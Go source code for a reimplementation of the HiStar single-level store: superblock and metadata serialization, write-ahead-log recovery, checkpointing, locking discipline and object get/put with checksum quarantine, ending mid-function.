	metaOff := logOffset + s.logSize + int64(next)*metaAreaSize
	if len(meta) > 0 {
		if _, err := s.d.WriteAt(meta, metaOff); err != nil {
			return err
		}
	}
	var sb [superblockSize]byte
	binary.LittleEndian.PutUint64(sb[0:], superMagic)
	binary.LittleEndian.PutUint64(sb[8:], uint64(next))
	binary.LittleEndian.PutUint64(sb[16:], uint64(len(meta)))
	binary.LittleEndian.PutUint64(sb[24:], uint64(s.logSize))
	if _, err := s.d.WriteAt(sb[:], superblockOffset); err != nil {
		return err
	}
	if err := s.d.Flush(); err != nil {
		return err
	}
	s.metaWhich = next
	return nil
}

func (s *Store) readSuperblock() error {
	var sb [superblockSize]byte
	if _, err := s.d.ReadAt(sb[:], superblockOffset); err != nil {
		return err
	}
	if binary.LittleEndian.Uint64(sb[0:]) != superMagic {
		return fmt.Errorf("store: bad superblock magic")
	}
	which := int(binary.LittleEndian.Uint64(sb[8:]))
	metaLen := int64(binary.LittleEndian.Uint64(sb[16:]))
	s.logSize = int64(binary.LittleEndian.Uint64(sb[24:]))
	s.metaWhich = which
	if metaLen == 0 {
		dataStart := logOffset + s.logSize + 2*metaAreaSize
		s.addFree(extent{off: dataStart, size: s.d.Size() - dataStart})
		return nil
	}
	metaOff := logOffset + s.logSize + int64(which)*metaAreaSize
	meta := make([]byte, metaLen)
	if _, err := s.d.ReadAt(meta, metaOff); err != nil {
		return err
	}
	return s.decodeMetadata(meta)
}

// encodeMetadata serializes the object map, object sizes and free list.
func (s *Store) encodeMetadata() []byte {
	var buf []byte
	appendU64 := func(v uint64) { var b [8]byte; binary.LittleEndian.PutUint64(b[:], v); buf = append(buf, b[:]...) }

	appendU64(uint64(s.objMap.Len()))
	s.objMap.Scan(func(k btree.Key, v uint64) bool {
		appendU64(k[0])
		appendU64(v)
		appendU64(uint64(s.objSizes[k[0]]))
		return true
	})
	// Free list by offset.
	var frees [][2]uint64
	s.freeByOff.Scan(func(k btree.Key, v uint64) bool {
		frees = append(frees, [2]uint64{k[0], v})
		return true
	})
	appendU64(uint64(len(frees)))
	for _, f := range frees {
		appendU64(f[0])
		appendU64(f[1])
	}
	// Object labels, in canonical serialized form.  Older metadata images
	// simply end here; decodeMetadata treats the section as optional.
	appendU64(uint64(len(s.labels)))
	for id, lbl := range s.labels {
		appendU64(id)
		buf = lbl.AppendBinary(buf)
	}
	return buf
}

func (s *Store) decodeMetadata(buf []byte) error {
	readU64 := func() (uint64, error) {
		if len(buf) < 8 {
			return 0, fmt.Errorf("store: truncated metadata")
		}
		v := binary.LittleEndian.Uint64(buf)
		buf = buf[8:]
		return v, nil
	}
	n, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < n; i++ {
		id, err := readU64()
		if err != nil {
			return err
		}
		off, err := readU64()
		if err != nil {
			return err
		}
		size, err := readU64()
		if err != nil {
			return err
		}
		s.objMap.Put(btree.K1(id), off)
		s.objSizes[id] = int64(size)
	}
	nf, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < nf; i++ {
		off, err := readU64()
		if err != nil {
			return err
		}
		size, err := readU64()
		if err != nil {
			return err
		}
		s.freeBySize.Put(btree.K2(size, off), 0)
		s.freeByOff.Put(btree.K1(off), size)
	}
	// Optional label section (absent in pre-label metadata images).
	if len(buf) == 0 {
		return nil
	}
	nl, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < nl; i++ {
		id, err := readU64()
		if err != nil {
			return err
		}
		lbl, rest, err := label.DecodeBinary(buf)
		if err != nil {
			return err
		}
		buf = rest
		s.labels[id] = lbl
	}
	return nil
}
