// Package store implements the HiStar single-level store (Sections 3 and 4):
// on bootup the entire system state is restored from the most recent on-disk
// snapshot, and all kernel objects are periodically checkpointed to disk.
// The layout follows the paper's description, inspired by XFS: a B+-tree
// maps object IDs to their location on disk, two more B+-trees maintain the
// free-extent list (indexed by size, for allocation, and by location, for
// coalescing), and a per-shard fourth B+-tree keys object IDs by their
// label's fingerprint so "every object tainted by category c" scans never
// touch a serialized label.  Write-ahead logging provides atomicity and
// crash consistency, and disk space allocation is delayed until an object is
// written to disk, making it easier to allocate contiguous extents.
//
// # On-disk layout
//
// The disk is divided into four fixed regions followed by the data region:
//
//	[0, 4096)                       superblock (two checksummed copies)
//	[4096, 4096+logSize)            write-ahead log (see package wal)
//	[.., .. + metaSize)             metadata area 0
//	[.., .. + metaSize)             metadata area 1
//	[.., disk size)                 data region: segments + dedicated extents
//
// The superblock sector holds two identical 64-byte copies, at offsets 0
// and 512, each independently protected by a CRC32C over its first 56
// bytes.  A copy's fields are little-endian u64s: the magic "HIST", which
// metadata area the current snapshot lives in, the snapshot's byte length,
// the log region size, the metadata area size, the format version
// (currently 2), and the checkpoint epoch; the CRC32C sits in the final
// u32.  Open uses whichever copy verifies (preferring the higher epoch if
// both do), so a single rotted sector never loses the root of the store.
//
// Each metadata area starts with a 48-byte header — magic "HMET", version
// (currently 4), checkpoint epoch, payload length, section count, and a
// CRC32C over the header itself — followed by tagged sections, each framed
// as [tag u64] [length u64] [CRC32C u64] [payload]: the object map (id,
// extent offset, size, contents-CRC quads — the contents CRC is what
// read-time and scrub verification of home extents check against, zero
// meaning "migrated from a legacy image, unverifiable until the checkpoint
// CRC-backfill pass reads and checksums it"); the free-extent list
// (offset, size); object labels (id, canonical label.AppendBinary bytes);
// the label fingerprint index (fingerprint, id); the segment table
// (base, size, used triples describing the append-only data segments —
// per-segment live counts are derived from the object map at open); and
// the bundle table ([count], then per bundle [lineage][bodyLen][body],
// where the body is the bundle name, capture epoch, and per-object
// id/offset/size/CRC/label records — see bundle.go for the codec).
// Checkpoints serialize into the area the superblock does NOT reference,
// flush, then rewrite both superblock copies with the bumped epoch, so a
// crash mid-checkpoint always leaves one intact, referenced snapshot.
//
// Version-2 images (the same framing with four sections and no segment
// table) and version-3 images (five sections, no bundle table) open
// transparently; the next checkpoint writes a six-section version-4 image.
// Images from before version 2 (a single bare superblock copy and an
// unchecksummed flat metadata image) also still open: they are detected by
// the all-zero version/epoch tail, loaded without verification, and
// rewritten in current form by the next checkpoint.  See doc.go for the
// full integrity reference: the degradation ladder Open walks when
// verification fails, and the quarantine semantics for damaged object
// extents.
//
// # Snapshot bundles and O(metadata) clones
//
// A snapshot bundle (bundle.go) captures a set of committed objects by
// reference: their home extents, contents CRCs, and canonical labels,
// registered under a deterministic lineage ID (an FNV-1a hash of the
// bundle name and each object's identity/size/CRC/label — content, not
// physical layout, so recapturing identical content is idempotent).
// CloneObject materializes a bundle member under a fresh object ID in
// O(metadata): the clone's object-map entry aliases the captured extent,
// and the first rewrite relocates it through the ordinary dirty path
// (copy-on-write at checkpoint granularity).  The refcount invariants:
// extRefs counts referents per shared extent (object-map aliases plus
// bundle pins; absent means one ordinary owner), vacateExtent decrements
// before freeing, so neither the segment cleaner nor the deferred-free
// path can reclaim bytes reachable from a live bundle or clone — and
// segments holding bundle-pinned extents are immovable (bundles record
// extents by offset), so the cleaner skips them outright.  Durability:
// the bundle rides a WAL record committed before SnapshotBundle returns
// and enters the metadata snapshot at the next checkpoint; checkpoint
// finish retains every WAL generation back to the oldest live bundle's
// capture epoch until two committed snapshots contain that bundle.  A
// contents-CRC failure on a shared extent propagates to every referent:
// aliasing objects are quarantined and the bundle entries marked rotted,
// so later clones fail with a typed QuarantineError instead of silently
// fanning damaged bytes out.
//
// # Data region: segments
//
// Checkpoint relocations append object contents into fixed-size append-only
// segments (Options.SegmentSize, default 1 MB) at 512-byte granularity, so
// one checkpoint's home writes are a few sequential streams rather than one
// random extent per object; objects larger than half a segment keep the
// original dedicated-extent path.  Space behind deleted or superseded
// objects is reclaimed by a cleaner that runs inside the checkpoint body:
// fully dead segments are freed without copying, and segments at least half
// dead have their live objects appended out so the extent can be reclaimed.
// Segments are never overwritten in place — appends land only beyond the
// committed high-water mark, and vacated extents return to the free trees
// only after every data write of the checkpoint has issued — preserving the
// copy-on-write discipline that makes a crash at any write boundary leave
// the previously referenced snapshot intact.  See segment.go.
//
// Three durability modes mirror the evaluation's LFS variants:
//
//   - asynchronous: Put buffers in memory; nothing reaches disk until a
//     checkpoint.
//   - per-object sync: SyncObject appends the object — contents and label
//     in one record, so a crash can never resurrect an object without its
//     taint — to the write-ahead log through the group committer and waits
//     for the batch commit: concurrent syncers share one sequential write
//     plus flush.
//   - group sync: Checkpoint seals the dirty set, writes it to home
//     segments, persists the metadata trees, and updates the superblock
//     once.
//
// # Incremental checkpoints
//
// Checkpoint is no longer a stop-the-world pause.  The protocol has three
// phases (see checkpoint.go for the full invariant catalogue):
//
//   - SEAL, the only exclusive moment: a brief ckptMu write hold that
//     captures the dirty set (clearing dirty, marking entries ckpt),
//     captures every label, and appends an epoch marker to the write-ahead
//     log.  Seal duration is proportional to the number of entries, with no
//     disk I/O except the marker append.
//   - BODY, concurrent with everything: relocates the sealed entries into
//     segments, backfills missing contents CRCs, runs the segment cleaner,
//     and writes the metadata snapshot for the sealed epoch while reads,
//     Puts, and SyncObject group commits proceed under ckptMu read mode.
//     Bodies of different checkpoints are serialized by ckptRun.
//   - FINISH: reclaims write-ahead log generations older than the previous
//     epoch (the previous generation is retained so a torn metadata area
//     can fall back one snapshot with zero committed-sync loss).
//
// Log records appended after the seal marker carry state the sealed
// snapshot may not include, and replay on top of it at Open; records from
// before the marker are reclaimable once the snapshot commits.
//
// # Locking discipline
//
// The store admits concurrent operations with the same discipline the
// kernel uses: no big lock, sharded tables, per-object state.  In order of
// acquisition:
//
//  1. ckptMu, a store-wide RWMutex, is the checkpoint gate: every object
//     operation (Put, Get, Delete, label ops, SyncObject, stats) holds it in
//     read mode for its duration.  Only the checkpoint SEAL and Close hold
//     it exclusively, and only briefly; the checkpoint body runs under no
//     ckptMu mode at all, serialized against other checkpoints by ckptRun.
//  2. Each cached object has its own entry (objEntry) with a per-entry
//     mutex guarding its contents, dirty/dead/ckpt flags, and label.
//     Contents are copy-on-write: e.data is replaced, never mutated in
//     place, so a sealed log record or a sealed checkpoint capture may
//     alias it after the entry lock is released.
//  3. The entry table is sharded by object-ID bits (Options.Shards; 1
//     forces the single-shard ablation).  Each shard's RWMutex guards its
//     id→entry map and its slice of the label fingerprint index.  Shard
//     locks nest inside entry locks (label-index updates) and are never
//     held while acquiring an entry lock — entry pointers are fetched under
//     the shard read lock, which is released before the entry is locked.
//  4. sbMu fences superblock and metadata-area device I/O: the checkpoint
//     body holds it across the snapshot write + superblock flip, and scrub
//     holds it while verifying those same regions, so scrub never reads a
//     torn in-progress image.
//  5. metaMu (RWMutex) guards the object map, size table, and content-CRC
//     table: Get's home-location reads take it shared, checkpoint
//     relocation takes it exclusively per object — never across device
//     I/O, which is staged outside the lock.
//  6. allocMu guards the free-extent trees, the segment table, and the
//     deferred-free list.  Reads never touch it, so lookups never contend
//     with allocation.
//  7. The committer's queue mutex (see groupcommit.go) is a leaf below the
//     entry locks: records are sealed and enqueued under the entry lock so
//     per-object log order matches seal order.
//
// Under ckptMu held exclusively (the seal; Format and Open are
// single-threaded) entry locks are not required: entries are read and
// written directly.
//
// Recovery (Open) loads the snapshot the superblock references, replays the
// committed write-ahead log from that snapshot's epoch marker on top of it
// — restoring each logged object's label and recomputing its fingerprints
// exactly once — and rebuilds the fingerprint index entries for replayed
// labels.  The crash-injection harness in this package's tests replays
// every write-boundary crash point of randomized workloads — concurrent
// ones included — to check exactly this path.
package store

import (
	"errors"
	"fmt"
	"math/bits"
	"sort"
	"sync"
	"sync/atomic"

	"histar/internal/btree"
	"histar/internal/disk"
	"histar/internal/label"
	"histar/internal/wal"
)

// Layout constants.
const (
	superblockOffset = 0
	superblockSize   = 4096
	logOffset        = superblockSize
	defaultLogSize   = 32 << 20 // 32 MB log region

	// defaultMetaAreaSize is the default size of each of the two alternating
	// metadata areas; checkpoints write the serialized metadata into the
	// area not referenced by the current superblock, then flip the
	// superblock, so a crash mid-checkpoint always leaves one intact copy.
	defaultMetaAreaSize = 16 << 20

	superMagic = 0x48495354 // "HIST"

	// extentAlign is the allocation granularity.  HiStar's allocator does
	// not cluster small objects the way ext3's block groups do, which is the
	// effect behind the uncached small-file read gap in Figure 12; aligning
	// extents reproduces that dispersion.
	extentAlign = 8192
)

// Errors.
var (
	ErrNoSuchObject = errors.New("store: no such object")
	ErrNoSpace      = errors.New("store: out of disk space")
	ErrClosed       = errors.New("store: store is closed")
)

// Stats describes cumulative store activity.
type Stats struct {
	Puts            uint64
	Gets            uint64
	Deletes         uint64
	ObjectSyncs     uint64
	Checkpoints     uint64
	LogApplications uint64
	BytesLogged     uint64
	BytesHome       uint64
	// LabelBytesLogged counts canonical label bytes appended to the
	// write-ahead log by SyncObject.
	LabelBytesLogged uint64
	// LabelDecodes counts label.DecodeBinary calls made by the store (on
	// snapshot load and log replay).  Index queries must not move it: the
	// tests assert ObjectsWithLabel answers taint scans from fingerprints
	// alone.
	LabelDecodes uint64
	// IndexQueries counts ObjectsWithLabel calls.
	IndexQueries uint64
	// WALCommits counts write-ahead log commits; with group commit active it
	// stays below ObjectSyncs (many syncs per flush).  GroupBatches counts
	// the batches the committer successfully committed (the committer is the
	// single source of truth for batching stats; see GroupCommitStats for
	// the full histogram).
	WALCommits   uint64
	GroupBatches uint64
	DirtyObjects int
	LiveObjects  int
	// LabeledObjects and IndexEntries snapshot the label map and the
	// fingerprint index; they are always equal unless the index is corrupt.
	LabeledObjects int
	IndexEntries   int
	// SealStallTotalNs and SealStallMaxNs measure the only exclusive moment
	// an incremental checkpoint has: the ckptMu write hold of the seal.
	// This is the store's "stop-the-world" budget — everything else in a
	// checkpoint runs concurrently with syncs and reads.
	SealStallTotalNs int64
	SealStallMaxNs   int64
	// BytesCleaned counts object bytes the segment cleaner copied out of
	// half-dead segments; together with BytesHome and MetaBytesWritten it
	// gives the checkpoint write-amplification picture.
	BytesCleaned     uint64
	MetaBytesWritten uint64
	// SegsAllocated / SegsCleaned / SegsFreed count data-region segments
	// created by the segment writer, compacted by the cleaner, and returned
	// to the free trees.
	SegsAllocated uint64
	SegsCleaned   uint64
	SegsFreed     uint64
	// CRCBackfills counts clean legacy-image extents that gained a contents
	// CRC during a checkpoint's backfill pass.
	CRCBackfills uint64
}

type counters struct {
	puts, gets, deletes, objectSyncs atomic.Uint64
	checkpoints, logApplications     atomic.Uint64
	bytesLogged, bytesHome           atomic.Uint64
	labelBytesLogged, labelDecodes   atomic.Uint64
	indexQueries                     atomic.Uint64

	sealStallTotalNs, sealStallMaxNs atomic.Int64
	bytesCleaned, metaBytesWritten   atomic.Uint64
	segsAllocated, segsCleaned       atomic.Uint64
	segsFreed, crcBackfills          atomic.Uint64

	bundleSnapshots, objectClones atomic.Uint64
	cloneBytesShared              atomic.Uint64
}

type extent struct {
	off  int64
	size int64
}

// Store is a single-level store on a simulated disk.  It is safe for
// concurrent use; see the package comment for the locking discipline.
type Store struct {
	d disk.Device
	l *wal.Log

	logSize  int64
	metaSize int64

	// ckptMu is the checkpoint gate (discipline rule 1).  closed is guarded
	// by it (read under R, written under W).
	ckptMu sync.RWMutex
	closed bool

	// ckptRun serializes checkpoint runs end to end (seal through finish);
	// ckptMu write mode covers only the seal, so without ckptRun two
	// concurrent Checkpoint calls could interleave their bodies.
	ckptRun sync.Mutex

	// sealSeq counts checkpoint SEALs and completedSeal the highest sealed
	// sequence whose body has fully committed.  SyncObject's full-log
	// fallback records sealSeq under ckptMu.R before syncing; the record is
	// durably covered once completedSeal exceeds that value (a checkpoint
	// sealed strictly after the record was enqueued has committed).
	sealSeq       atomic.Uint64
	completedSeal atomic.Uint64

	// shards hold the in-memory object entries and the label index,
	// partitioned by object-ID bits.
	shards    []storeShard
	shardMask uint64

	// metaMu guards the object map, size table, and content-CRC table.
	metaMu   sync.RWMutex
	objMap   *btree.Tree // object ID → extent offset
	objSizes map[uint64]int64
	// objCRCs holds the CRC32C of each object's home-extent contents,
	// recorded when the checkpoint writes the extent and verified whenever
	// it is read back.  Objects loaded from legacy (pre-CRC) images are
	// absent until their next relocation and read unverified.
	objCRCs map[uint64]uint32
	// bundles is the snapshot-bundle table, lineage ID → bundle (see
	// bundle.go); registered bundles pin their extents via extRefs and are
	// persisted in the metadata snapshot's bundle section (format v4).
	bundles map[uint64]*Bundle

	// allocMu guards the free-extent trees, the segment table, and the
	// deferred-free list.
	allocMu    sync.Mutex
	freeBySize *btree.Tree // (size, offset) → 0
	freeByOff  *btree.Tree // (offset, 0) → size
	// deferredFree holds extents vacated during a checkpoint (relocations,
	// deletions, emptied segments) until every data write of that checkpoint
	// has issued; kept on the store, not the stack, so a failed checkpoint
	// retains them for the next attempt instead of leaking the space.
	deferredFree []extent
	// extRefs counts references to shared home extents — object-map aliases
	// created by CloneObject plus bundle pins.  An absent entry means the
	// ordinary single owner; vacateExtent decrements before freeing, so a
	// shared extent is reclaimed only when its last referent lets go.
	// Rebuilt from the object map and bundle table at Open.
	extRefs map[int64]int64

	// The append-only data segments (see segment.go): segs maps base offset
	// to segment, segBases indexes the bases for containment lookups, and
	// openSegBase is the segment currently receiving appends (0 = none; the
	// data region never starts at offset 0).  Guarded by allocMu.
	segs        map[int64]*segment
	segBases    *btree.Tree
	openSegBase int64
	segSize     int64

	comm committer

	// sbMu fences superblock and metadata-area device I/O (discipline rule
	// 4): the checkpoint body's snapshot write + superblock flip and scrub's
	// verification of those regions exclude each other.
	sbMu sync.Mutex

	metaWhich int // which metadata area (0 or 1) the superblock references
	// metaEpoch is the checkpoint epoch recorded in the current superblock
	// and metadata-area headers; the next checkpoint writes metaEpoch+1.
	// Written under metaMu by the checkpoint body (ckptRun-serialized);
	// the seal may read it without metaMu because the previous body's
	// release of ckptRun happens-before this run's acquisition.
	metaEpoch uint64

	// Test hooks, set before the store is shared: scrubGate runs between
	// scrub chunks (no locks held), ckptGate between a checkpoint's seal and
	// body.
	scrubGate func()
	ckptGate  func()

	// report records the degradation-ladder rungs Open took; immutable once
	// the store is published.
	report RecoveryReport

	integ integrityCounters

	c counters
}

// Options configure Format and Open.
type Options struct {
	// LogSize is the size of the write-ahead log region (default 32 MB).
	LogSize int64
	// MetaAreaSize is the size of each of the two alternating metadata
	// areas (default 16 MB).  Format records it in the superblock; Open
	// reads it back, so the option only matters when formatting.
	MetaAreaSize int64
	// Shards is the store-shards knob: the number of object-cache shards
	// (rounded down to a power of two).  0 picks the default; 1 forces the
	// whole cache through a single shard lock, used by the scaling ablation
	// benchmarks.  Runtime-only: not persisted in the superblock.
	Shards int
	// GroupCommitBytes bounds the encoded size of one group-commit batch
	// (default 1 MB); a batch always admits at least one record.
	GroupCommitBytes int64
	// GroupCommitRecords bounds the number of records in one group-commit
	// batch (default 128).
	GroupCommitRecords int
	// SegmentSize is the size of the append-only data segments checkpoint
	// relocation packs small objects into (default 1 MB, rounded up to the
	// extent alignment).  Runtime-only: each existing segment's geometry is
	// persisted in the metadata snapshot, so reopening under a different
	// SegmentSize affects only newly allocated segments.
	SegmentSize int64
}

// defaultSegmentSize balances sequential checkpoint writes against cleaner
// copy granularity.
const defaultSegmentSize = 1 << 20

// defaultStoreShards keeps shard-lock collisions negligible at any
// realistic GOMAXPROCS while staying cheap to iterate for stats.
const defaultStoreShards = 32

// newStore builds the in-memory skeleton shared by Format and Open.
func newStore(d disk.Device, opts Options) *Store {
	nShards := defaultStoreShards
	if opts.Shards > 0 {
		nShards = 1 << bits.Len(uint(opts.Shards)) >> 1 // round down to a power of two
		if nShards < 1 {
			nShards = 1
		}
	}
	segSize := opts.SegmentSize
	if segSize <= 0 {
		segSize = defaultSegmentSize
	}
	s := &Store{
		d:        d,
		logSize:  opts.LogSize,
		metaSize: opts.MetaAreaSize,
		objMap:   &btree.Tree{},
		objSizes: make(map[uint64]int64),
		objCRCs:  make(map[uint64]uint32),
		bundles:  make(map[uint64]*Bundle),

		freeBySize: &btree.Tree{},
		freeByOff:  &btree.Tree{},
		extRefs:    make(map[int64]int64),

		segs:     make(map[int64]*segment),
		segBases: &btree.Tree{},
		segSize:  alignUp(segSize),

		shards:    make([]storeShard, nShards),
		shardMask: uint64(nShards - 1),
	}
	for i := range s.shards {
		s.shards[i].objs = make(map[uint64]*objEntry)
		s.shards[i].labelIndex = &btree.Tree{}
	}
	s.comm.maxBytes = opts.GroupCommitBytes
	if s.comm.maxBytes <= 0 {
		s.comm.maxBytes = 1 << 20
	}
	s.comm.maxRecs = opts.GroupCommitRecords
	if s.comm.maxRecs <= 0 {
		s.comm.maxRecs = 128
	}
	return s
}

// Format initializes an empty single-level store on d, erasing any previous
// contents, and returns it ready for use.
func Format(d disk.Device, opts Options) (*Store, error) {
	if opts.LogSize == 0 {
		opts.LogSize = defaultLogSize
	}
	if opts.MetaAreaSize == 0 {
		opts.MetaAreaSize = defaultMetaAreaSize
	}
	s := newStore(d, opts)
	l, err := wal.New(d, logOffset, opts.LogSize)
	if err != nil {
		return nil, err
	}
	s.l = l
	dataStart := logOffset + opts.LogSize + 2*s.metaSize
	s.addFree(extent{off: dataStart, size: d.Size() - dataStart})
	if err := s.writeSnapshot(s.metaEpoch+1, nil); err != nil {
		return nil, err
	}
	return s, nil
}

// Open mounts an existing store from d, replaying the write-ahead log if the
// system crashed before the log was applied.  This is the "bootup restores
// the entire system state from the most recent on-disk snapshot" path:
// snapshot metadata (including object labels and the fingerprint index) is
// loaded first, then committed log records — each carrying an object's
// contents and canonical label — are re-applied on top, so a synced object
// always comes back with the taint it was synced with.
//
// Every structure is checksum-verified on the way in, and failures walk a
// degradation ladder instead of failing the mount (see RecoveryReport): a
// damaged primary superblock copy falls back to the backup copy; a damaged
// referenced metadata area falls back to the alternate (previous-checkpoint)
// area plus a replay of the retained write-ahead log generation, losing no
// committed sync; a damaged fingerprint-index section alone is rebuilt from
// the label section; a damaged log yields its valid prefix.  Only when both
// superblock copies or both metadata areas are corrupt does Open refuse,
// with an error matching ErrCorrupt.
func Open(d disk.Device, opts Options) (*Store, error) {
	if opts.LogSize == 0 {
		opts.LogSize = defaultLogSize
	}
	s := newStore(d, opts)
	if err := s.readSuperblock(); err != nil {
		return nil, err
	}
	s.l = wal.Open(d, logOffset, s.logSize)
	recs, err := s.l.Recover()
	if err != nil {
		if !errors.Is(err, wal.ErrCorrupt) {
			return nil, err
		}
		// Damaged record or header: the valid prefix was recovered and the
		// log resealed.  Mount degraded rather than refusing.
		s.report.WALDamaged = true
		s.noteCorruption(err)
	}
	// Re-apply committed log records on top of the checkpointed state.  Open
	// is single-threaded (the store is not yet published), so entries are
	// written directly.  Normally only the current checkpoint generation
	// (records after the last rotation marker) replays; after a metadata
	// fallback the retained previous generation replays too, which is
	// exactly what makes the older snapshot catch up with zero
	// committed-sync loss.
	legacy := s.l.RecoveredLegacy()
	for _, r := range recs[s.walReplayStart(s.l):] {
		if r.Mark {
			continue
		}
		s.report.WALRecordsReplayed++
		if r.Bundle {
			// A snapshot bundle committed after the loaded snapshot's seal;
			// a damaged payload degrades the mount (clones of the lost bundle
			// quarantine) rather than refusing it.
			_ = s.replayBundleRecord(r)
			continue
		}
		if r.Clone {
			s.replayCloneRecord(r, legacy)
			continue
		}
		sh := s.shardOf(r.ObjectID)
		e := sh.getOrCreate(r.ObjectID)
		if r.Delete {
			e.data, e.cached, e.dirty, e.dead = nil, false, false, true
			e.quar = false
			s.clearLabel(sh, r.ObjectID, e)
			continue
		}
		e.data = append([]byte(nil), r.Data...)
		e.cached, e.dirty = true, true
		// A logged re-create after a logged tombstone must clear the dead
		// flag, or the next SyncObject would log a spurious deletion.
		e.dead = false
		e.quar = false
		switch {
		case len(r.Label) > 0:
			lbl, rest, derr := s.decodeLabel(r.Label)
			if derr != nil || len(rest) != 0 {
				return nil, s.noteCorruption(fmt.Errorf("%w: replaying label of object %d: %v", ErrCorrupt, r.ObjectID, derr))
			}
			// Fingerprints were recomputed once by the decode; the index
			// entry is rebuilt here so replayed taints are queryable.
			s.setLabel(sh, r.ObjectID, e, lbl)
		case !legacy:
			// A label-less record asserts the object was unlabeled when it
			// was synced (it may have been deleted and re-created since a
			// checkpoint recorded a label, with no tombstone ever logged).
			// Migrated version-1 records are exempt: they predate labels in
			// the log, so the snapshot's label is the best information.
			s.clearLabel(sh, r.ObjectID, e)
		}
	}
	// Replayed bundle and clone records introduced references the loaded
	// snapshot's derived state does not reflect: rebuild the extent
	// refcounts and segment live totals once over the final tables.
	s.recomputeSegLive()
	return s, nil
}

// Disk returns the underlying device.
func (s *Store) Disk() disk.Device { return s.d }

// Stats returns a snapshot of store statistics.
func (s *Store) Stats() Stats {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	ws := s.l.Stats()
	st := Stats{
		Puts:             s.c.puts.Load(),
		Gets:             s.c.gets.Load(),
		Deletes:          s.c.deletes.Load(),
		ObjectSyncs:      s.c.objectSyncs.Load(),
		Checkpoints:      s.c.checkpoints.Load(),
		LogApplications:  s.c.logApplications.Load(),
		BytesLogged:      s.c.bytesLogged.Load(),
		BytesHome:        s.c.bytesHome.Load(),
		LabelBytesLogged: s.c.labelBytesLogged.Load(),
		LabelDecodes:     s.c.labelDecodes.Load(),
		IndexQueries:     s.c.indexQueries.Load(),
		WALCommits:       ws.Commits,
		GroupBatches:     s.GroupCommitStats().Batches,
		SealStallTotalNs: s.c.sealStallTotalNs.Load(),
		SealStallMaxNs:   s.c.sealStallMaxNs.Load(),
		BytesCleaned:     s.c.bytesCleaned.Load(),
		MetaBytesWritten: s.c.metaBytesWritten.Load(),
		SegsAllocated:    s.c.segsAllocated.Load(),
		SegsCleaned:      s.c.segsCleaned.Load(),
		SegsFreed:        s.c.segsFreed.Load(),
		CRCBackfills:     s.c.crcBackfills.Load(),
	}
	// Entry locks first, metaMu second: the entry→metaMu order matches
	// Get's readHome path, so a pending metaMu writer can never wedge
	// between the two.
	var dirtyIDs []uint64
	for si := range s.shards {
		sh := &s.shards[si]
		for _, e := range sh.snapshot() {
			e.entry.mu.Lock()
			if e.entry.dirty {
				dirtyIDs = append(dirtyIDs, e.id)
			}
			e.entry.mu.Unlock()
		}
		sh.mu.RLock()
		st.IndexEntries += sh.labelIndex.Len()
		sh.mu.RUnlock()
	}
	st.DirtyObjects = len(dirtyIDs)
	s.metaMu.RLock()
	st.LiveObjects = s.objMap.Len()
	for _, id := range dirtyIDs {
		if _, ok := s.objMap.Get(btree.K1(id)); !ok {
			st.LiveObjects++
		}
	}
	s.metaMu.RUnlock()
	st.LabeledObjects = st.IndexEntries
	return st
}

// WALStats returns the write-ahead log's cumulative counters (commit,
// truncate, append, and group-commit batch counts).
func (s *Store) WALStats() wal.Stats { return s.l.Stats() }

// Put stores (or replaces) the contents of an object in memory.  Nothing is
// written to disk until SyncObject or a checkpoint, mirroring HiStar's
// delayed allocation.
func (s *Store) Put(id uint64, data []byte) error {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	if s.closed {
		return ErrClosed
	}
	e := s.shardOf(id).getOrCreate(id)
	e.mu.Lock()
	s.putEntry(e, data)
	e.mu.Unlock()
	return nil
}

// putEntry installs new contents; the caller holds ckptMu in read mode and
// the entry lock.
func (s *Store) putEntry(e *objEntry, data []byte) {
	// Copy-on-write: replace, never mutate, so sealed log records may alias
	// the old slice.
	e.data = append([]byte(nil), data...)
	e.cached, e.dirty, e.dead = true, true, false
	// New contents supersede a damaged home extent: lift the quarantine.
	e.quar = false
	s.c.puts.Add(1)
}

// Get returns the contents of an object, reading it from disk if it is not
// cached.
func (s *Store) Get(id uint64) ([]byte, error) {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	if s.closed {
		return nil, ErrClosed
	}
	s.c.gets.Add(1)
	sh := s.shardOf(id)
	e := sh.lookup(id)
	if e == nil {
		// No in-memory state at all: the home location is authoritative.
		buf, err := s.readHome(id)
		if err != nil {
			if errors.Is(err, ErrCorrupt) {
				e = sh.getOrCreate(id)
				e.mu.Lock()
				qerr := s.quarantine(id, e, err.Error())
				e.mu.Unlock()
				// Damage on a shared extent damages every referent: clones
				// and bundle entries over it must never serve these bytes.
				if off, ok := s.homeOffset(id); ok {
					s.propagateExtentRot(off, id)
				}
				return nil, qerr
			}
			return nil, err
		}
		e = sh.getOrCreate(id)
		e.mu.Lock()
		switch {
		case e.cached: // raced with a Put: its contents are newer
			buf = append([]byte(nil), e.data...)
		case e.dead:
			e.mu.Unlock()
			return nil, ErrNoSuchObject
		default:
			e.data = append([]byte(nil), buf...)
			e.cached = true
		}
		e.mu.Unlock()
		return buf, nil
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.cached {
		return append([]byte(nil), e.data...), nil
	}
	if e.dead {
		return nil, ErrNoSuchObject
	}
	if e.quar {
		return nil, &QuarantineError{ID: id, Detail: "home extent failed verification"}
	}
	// Entry holds only a label (or was evicted): page the contents in while
	// holding the entry lock so concurrent misses do one disk read.
	buf, err := s.readHome(id)
	if err != nil {
		if errors.Is(err, ErrCorrupt) {
			qerr := s.quarantine(id, e, err.Error())
			off, hasOff := s.homeOffset(id)
			// Propagation locks sibling entries one at a time; drop this
			// entry's lock around it (the deferred unlock needs it back).
			e.mu.Unlock()
			if hasOff {
				s.propagateExtentRot(off, id)
			}
			e.mu.Lock()
			return nil, qerr
		}
		return nil, err
	}
	e.data = append([]byte(nil), buf...)
	e.cached = true
	return buf, nil
}

// readHome reads an object's contents from its home extent, verifying them
// against the checkpoint-recorded CRC when one exists (objects from legacy
// pre-CRC images read unverified until their next relocation).  A mismatch
// is reported as a CorruptError; callers quarantine the object.
func (s *Store) readHome(id uint64) ([]byte, error) {
	s.metaMu.RLock()
	off, ok := s.objMap.Get(btree.K1(id))
	size := s.objSizes[id]
	crc, hasCRC := s.objCRCs[id]
	s.metaMu.RUnlock()
	if !ok {
		return nil, ErrNoSuchObject
	}
